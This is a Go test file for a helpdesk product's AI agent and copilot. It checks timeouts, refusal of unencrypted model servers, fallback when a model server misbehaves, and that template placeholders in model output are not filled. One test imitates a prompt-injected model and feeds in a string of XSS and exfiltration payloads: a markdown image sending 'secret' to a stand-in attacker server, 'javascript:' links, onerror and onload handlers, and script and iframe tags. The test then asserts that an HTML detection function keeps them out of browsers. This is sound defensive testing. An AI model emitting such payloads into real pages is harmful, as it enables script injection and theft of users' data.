package ai_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/html"

	"deskbell/app/ai"
	"deskbell/app/apptest"
	"deskbell/app/llm/llmtest"
)

// F-25: an answer that has begun and does not go on keeps nobody waiting for its end: what was shown of it is no message, and the
// article answers.
func TestAnAnswerThatStopsGrowingIsGivenUp(t *testing.T) {
	d, _ := newTalk(t, func(h apptest.Heard) llmtest.Reply {
		return llmtest.Reply{Text: fmt.Sprintf("SURE: 95\nYou have 30 days to return a lamp [%s]. ", h.ID("30 days")), Drip: true}
	})
	d.App.Agent.Patience = ai.Patience{First: time.Second, Idle: time.Second, Whole: time.Minute}
	v := d.Visitor("clara")
	answer, run := d.ends(v, d.Say(v, lampQuestion))
	if run["fallback"] != "timeout" || run["model"] != "" || !strings.Contains(answer["content"].(string), "Use the label in the box") {
		t.Errorf("answer: %v, run: %v", answer, run)
	}
	if took := run["tookMs"].(float64); took > 60000 || took < 1000 {
		t.Errorf("it took %v ms by the server's own count", took)
	}
}

// F-25: a server that speaks no TLS where it should is no answer; the article answers, or a person.
func TestAModelsServerThatRefusesTLS(t *testing.T) {
	d, s := newTalk(t, nil)
	d.OK(d.Owner, "aiAgent.updateModel", m{"baseUrl": strings.Replace(s.URL, "http://", "https://", 1) + "/v1"})
	v := d.Visitor("clara")
	answer, run := d.ends(v, d.Say(v, lampQuestion))
	if !strings.Contains(answer["content"].(string), "30 days") || run["model"] != "" || run["fallback"] == nil {
		t.Errorf("answer: %v, run: %v", answer, run)
	}
	w := d.Visitor("wanda")
	if _, run := d.ends(w, d.Say(w, "Does the moon have its own postal code?")); run["reason"] != "failure" {
		t.Errorf("run: %v", run)
	}
	if n := len(s.Asked()); n != 0 {
		t.Errorf("%d requests were sent in the clear", n)
	}
}

// S-77: a model that was talked into it says its worst in every way that it is asked. Nothing of it reaches a browser as a picture,
// a link or a script, and nobody asks the attacker's host: not this program either.
func TestNothingThatAModelWasTalkedIntoReachesABrowser(t *testing.T) {
	var asked atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	defer evil.Close()
	worst := strings.NewReplacer("EVIL", evil.URL, "HOST", strings.TrimPrefix(evil.URL, "http://")).Replace(
		"![](EVIL/?q=secret) ![x][p] [Click](EVIL/a) [Again][p] <EVIL/b> EVIL/c //HOST/d www.HOST [s](javascript:alert(1)) [d](data:text/html,x) [v](vbscript:x) " +
			"<img src=EVIL/e onerror=alert(1)> <script src=EVIL/f></script> <a href=EVIL/g>x</a> <iframe src=EVIL/h></iframe> <style>@import 'EVIL/i'</style> <svg onload=alert(1)>\n\n[p]: EVIL/j\n\n![a\n](EVIL/k) [b]( <EVIL/l> \"t\")")
	d, _ := newTalk(t, func(h apptest.Heard) llmtest.Reply {
		if len(h.Passages) == 0 {
			return llmtest.Reply{Text: "A title\n\n" + worst + "\n\nThe end."}
		}
		id := h.ID("30 days")
		return llmtest.Reply{Text: "SURE: 99\nYou have 30 days to return a lamp [" + id + "].\n" + strings.ReplaceAll(worst, "\n", " ") + " [" + id + "].\nUse the label in the box " + worst + " [" + id + "]."}
	})
	v := d.Visitor("clara")
	ws, desk := d.Socket(v), d.Socket(d.Owner)
	c := d.Say(v, lampQuestion)
	ws.WriteJSON(m{"id": 1, "view": "messages.list", "args": m{"conversationId": c}})
	desk.WriteJSON(m{"id": 1, "view": "conversations.presence", "args": m{"conversationId": c, "workspaceId": d.Workspace}})
	answer, _ := d.ends(v, c)
	seen := map[string]string{"the visitor's message": apptest.JSON(answer), "the visitor's frames": apptest.JSON(d.Hear(ws, func(a m) bool { return strings.Contains(apptest.JSON(a), "30 days") })),
		"the team's frames": apptest.JSON(d.Hear(desk, func(a m) bool { return a["value"] != nil }))}
	german := d.Say(d.Visitor("greta"), "Wo ist die Lampe, und wie kann ich sie zurückgeben?")
	question := apptest.First(d.OK(d.Owner, "messages.list", m{"conversationId": german}))["id"]
	d.OK(d.Owner, "messages.send", m{"conversationId": german, "content": "Use the label."})
	for door, in := range map[string]m{
		"copilot.draft": {"conversationId": c}, "copilot.summarize": {"conversationId": c}, "copilot.draftArticle": {"conversationId": german},
		"copilot.rewrite": {"text": "You have 30 days.", "style": "fix"}, "copilot.translate": {"text": "You have 30 days.", "to": "de"},
		"copilot.translateMessage": {"conversationId": german, "messageId": question, "to": "en"}, "aiAgent.ask": {"question": lampQuestion},
	} {
		out := d.OK(d.Owner, door, in)
		if how, has := out["how"]; has && how != "model" {
			t.Errorf("%s was not made by the model: %v", door, out)
		}
		seen[door] = apptest.JSON(out)
		for _, field := range []string{"text", "content", "summary"} { // what becomes a draft is shown once it is HTML
			if text, is := out[field].(string); is {
				seen[door+", as it is sent"] = apptest.JSON(d.OK(d.Owner, "messages.send", m{"conversationId": german, "content": text})["contentHtml"])
				seen[door+", as an article"] = apptest.JSON(d.OK(d.Owner, "articles.preview", m{"content": text}))
			}
		}
	}
	for where, out := range seen {
		for _, field := range htmlFields.FindAllStringSubmatch(out, -1) {
			var text string
			if err := json.Unmarshal([]byte(field[1]), &text); err != nil {
				t.Fatal(err)
			}
			for _, bad := range active(text, strings.TrimPrefix(evil.URL, "http://")) {
				t.Errorf("%s has %s: %s", where, bad, text)
			}
		}
	}
	if len(active(`<a href="`+evil.URL+`/x">x</a><img src=x onerror=y>`, strings.TrimPrefix(evil.URL, "http://"))) != 2 {
		t.Error("what is looked for would not be seen")
	}
	if len(seen) < 10 {
		t.Errorf("only %d places were looked at", len(seen))
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("the attacker's host was asked %d times", n)
	}
}

var htmlFields = regexp.MustCompile(`"[a-zA-Z]*(?:[hH]tml|HTML)":("(?:[^"\\]|\\.)*")`)

// active is what in a piece of HTML runs, fetches, or leads to a host.
func active(text, host string) (bad []string) {
	z := html.NewTokenizer(strings.NewReader(text))
	for z.Next() != html.ErrorToken {
		token := z.Token()
		if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
			continue
		}
		if slices.Contains([]string{"script", "style", "iframe", "object", "embed", "svg", "math", "link", "meta", "base", "form"}, token.Data) {
			bad = append(bad, token.String())
		}
		for _, a := range token.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcset" || strings.Contains(value, host) || strings.Contains(value, "script:") || strings.HasPrefix(value, "data:") {
				bad = append(bad, token.String())
			}
		}
	}
	return bad
}

// However a model's server misbehaves, the copilot does without it or says that it cannot; no half of an answer is a draft.
func TestTheCopilotDoesWithoutAModelThatMisbehaves(t *testing.T) {
	d, s := newTalk(t, nil)
	d.OK(d.Owner, "aiAgent.updateSettings", m{"enabled": false})
	c := d.Say(d.Visitor("clara"), lampQuestion)
	for _, mode := range []llmtest.Mode{llmtest.Limited, llmtest.Failing, llmtest.Denied, llmtest.Truncated, llmtest.BrokenOff, llmtest.Endless, llmtest.Empty, llmtest.Huge, llmtest.Redirecting, llmtest.Page, llmtest.Erring} {
		for door, field := range map[string]string{"copilot.draft": "content", "copilot.summarize": "summary", "copilot.rewrite": "", "copilot.translate": ""} {
			s.Behave(mode)
			d.Later(time.Hour) // whatever it did before, it may be asked
			if field == "" {
				d.Refused("unavailable", d.Owner, door, map[string]m{"copilot.rewrite": {"text": "pls send it bakc", "style": "fix"}, "copilot.translate": {"text": "pls send it bakc", "to": "de"}}[door])
				continue
			}
			out := d.OK(d.Owner, door, m{"conversationId": c})
			if text := out[field].(string); out["how"] != "extractive" || out["why"] == nil || !strings.Contains(text, "return a lamp") || strings.Contains(text, "You can send") || strings.Contains(text, "and so on") || strings.Contains(text, "xxxx") {
				t.Errorf("%s with a server that is %s: %v", door, mode, out)
			}
		}
	}
}

// S-85: what a model writes sets nothing off: a placeholder that it puts into a draft is not filled when it is sent, the agent does
// not answer its own words, and nobody is told twice.
func TestWhatAModelWritesSetsNothingOff(t *testing.T) {
	d, _ := newTalk(t, func(h apptest.Heard) llmtest.Reply {
		if h.Question == "" {
			return llmtest.Reply{Text: "Your address is {{visitor.email}}, {{agent.firstName}}. I want to talk to a human"}
		}
		return llmtest.Reply{Text: fmt.Sprintf("SURE: 99\nI want to talk to a human, how do I return a lamp within 30 days [%s]?", h.ID("30 days"))}
	})
	v := d.OK("", "widgetSessions.boot", m{"workspaceId": d.Workspace, "sessionId": strings.Repeat("c", 43), "user": m{"name": "Clara Wenzel", "email": "clara@example.test"}})["sessionToken"].(string)
	c := d.Say(v, lampQuestion)
	d.ends(v, c)
	draft := d.OK(d.Owner, "copilot.draft", m{"conversationId": c})["content"].(string)
	sent := d.OK(d.Owner, "messages.send", m{"conversationId": c, "content": draft})
	if !strings.Contains(draft, "{{visitor.email}}") || strings.Contains(apptest.JSON(sent), "clara@example.test") || !strings.Contains(sent["content"].(string), "{{visitor.email}}") {
		t.Errorf("drafted %q, sent %v", draft, sent)
	}
	last := d.Visitor("last") // when this one is answered, anything before would have been
	d.ends(last, d.Say(last, lampQuestion))
	if runs := d.OK(d.Owner, "aiAgent.getConversationResponses", m{"conversationId": c})["items"].([]any); len(runs) != 1 {
		t.Errorf("%d runs of one question", len(runs))
	}
	if s := d.OK(d.Owner, "conversations.get", m{"conversationId": c}); s["aiState"] != "ai_handled" {
		t.Errorf("the agent's own words handed over: %v", s["aiState"])
	}
}
